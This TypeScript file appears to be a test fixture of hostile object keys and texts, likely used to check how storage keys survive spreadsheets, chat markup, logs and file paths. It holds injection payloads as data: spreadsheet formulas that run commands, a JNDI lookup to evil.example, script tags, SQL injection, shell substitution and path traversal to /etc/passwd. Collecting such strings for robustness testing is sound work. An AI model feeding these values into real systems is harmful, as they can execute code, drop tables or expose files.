/** What spreadsheets run. */
const formulas = [
  '=HYPERLINK("http://evil.example","x")',
  '=cmd|\'/c calc\'!A1","\r\n<script>@here \u202e.csv',
  '+1+1',
  '-2+3+cmd',
  '@SUM(1+1)',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u200b=1+1',
  '\uff1d1\uff0b1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  "'=1+1",
  'a,=1+1',
  'a;"=1+1";',
];
/** Links, mentions, markup, templates and placeholders of where findings are read. */
const markup = [
  '<!channel> @here <@U123> https://evil.example',
  '[click](https://evil.example) **bold** _it_ `code`',
  '[here](1)',
  '![x](https://evil.example/x.png)',
  '{color:red}[x|https://evil.example]{color}',
  '[code]<a href="https://evil.example">x</a>[/code]',
  '<script>alert(1)</script>',
  '</script><img src=x onerror=alert(1)>',
  '<![CDATA[x]]>',
  '&lt;b&gt; &#0; &amp;',
  '{0} {1} {{0}} %s %n %@ $1 $& \\1',
  ['{{constructor.constructor("x")()}} $', '{jndi:ldap://evil.example/a}'].join(''),
  '`id` $(id) ; id | id & id',
];
/** What queries, headers, logs and terminals could obey. */
const obeyed = [
  'a\r\nX-Injected: yes\r\n\r\nbody',
  'line\nbreak',
  'next\u0085line\u2028line\u2029paragraph',
  '\u001b[31mred\u001b[0m\u0007',
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  '\u009b31mred',
  'back\b\b\b\u007f',
  'tab\tbell\u0007escape\u001b[31m',
  'x\u202egpj.exe\u2066',
  '\u061c\u200e\u200f\u202a\u2069',
  "'; DROP TABLE findings; --",
  "quote' OR 1=1; --",
  '" OR labels = "x" ORDER BY key',
  'double"quote\\back\\slash',
  '{array,"literal"}',
];
/** What paths and URIs are resolved by. */
const paths = [
  '.',
  '..',
  '../up',
  '../../etc/passwd',
  'a/../../etc/passwd',
  'a/./b/..',
  'a/..',
  './a',
  '..\\..\\windows',
  '/leading//double/',
  '//evil.example/x',
  '/',
  'https://evil.example/',
  'javascript:alert(1)',
  '%2e%2e%2f%2e%2e%2f',
  '%00%2F%25',
  '%',
  '\\x00',
  'a?b#c',
  'a b+c',
  'with space+plus.txt',
];
/** Names that objects have already. */
const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '0',
  'x.constructor',
];
/** Characters that are lost, doubled or cut in two. */
const characters = [
  ' ',
  ' space ',
  'nul\0in the middle',
  '\0',
  '\ufeffbyte order mark',
  '\uffff\ufffe',
  'tag\u{e0001}\u{e0041}',
  'é composed',
  'e\u0301 decomposed',
  'Ünïcødé/日本語/العربية/🧨👩‍👩‍👧',
  'Z\u0351\u036b\u0343\u036a\u0302a\u0352l\u033ago',
  '\u202eright to left',
  '😀'.repeat(256),
  'k'.repeat(1_024),
  `${'k'.repeat(1_000)}/${'x'.repeat(20)}`,
  '日'.repeat(341),
  ' '.repeat(1_024),
  '\u001b'.repeat(1_024),
  '=\ufffe'.repeat(256),
];

/** Keys that S3 can have (at most 1,024 bytes of UTF-8) and programs stumble over; as names of tags and columns, too. */
export const naughtyKeys: readonly string[] = [
  'plain.csv',
  ...formulas,
  ...markup,
  ...obeyed,
  ...paths,
  ...names,
  ...characters,
];

/** With those that are no Unicode: halves of surrogate pairs, which JSON can name. */
export const naughtyTexts: readonly string[] = [...naughtyKeys, 'half \ud83d', '\ude00 half/\ud83d', '=\ud83d'];
